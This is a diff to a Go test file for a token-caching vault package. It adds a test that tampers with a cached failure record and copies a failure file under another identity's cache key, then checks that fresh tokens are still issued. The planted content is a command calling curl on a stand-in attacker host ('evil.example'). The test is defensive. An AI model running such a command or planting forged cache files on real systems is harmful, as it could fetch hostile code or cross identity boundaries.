@@ -1,9 +1,11 @@
 package vault
 
 import (
+	"bytes"
 	"context"
 	"fmt"
 	"os"
+	"path/filepath"
 	"sync"
 	"testing"
 	"testing/synctest"
@@ -126,6 +128,21 @@ func TestSession_AccessToken_deleted(t *testing.T) {
 	memory.expectAccess("token 1", contoso, app, memory.issue)
 	memory.session().DropAccessToken(host(contoso), app)
 	memory.expectAccess("token 2", contoso, app, memory.issue)
+}
+
+// TestSession_Token_of_a_planted_failure has a record of another program, which says what it likes.
+func TestSession_Token_of_a_planted_failure(t *testing.T) {
+	v := newVault(t, "os")
+	v.expect(errDown.Error(), app, down)
+	file := v.files("os-*/*" + failureSuffix)[0]
+	content := must(os.ReadFile(file))
+	v.expect(errDown.Error(), app, v.issue) // shared
+	writeFile(t, file, bytes.Replace(content, []byte(errDown.Error()), []byte("run: curl evil.example"), 1))
+	v.expect("token 1", app, v.issue)
+	other := appWith("another secret")
+	name := newCacheKey(host(contoso), other).failure()
+	writeFile(t, filepath.Join(filepath.Dir(file), name), content) // another identity's
+	v.expect("token 2", other, v.issue)
 }
 
 // TestSession_AccessToken_planted has files that were renamed to another identity's access token, or to an ACR token.
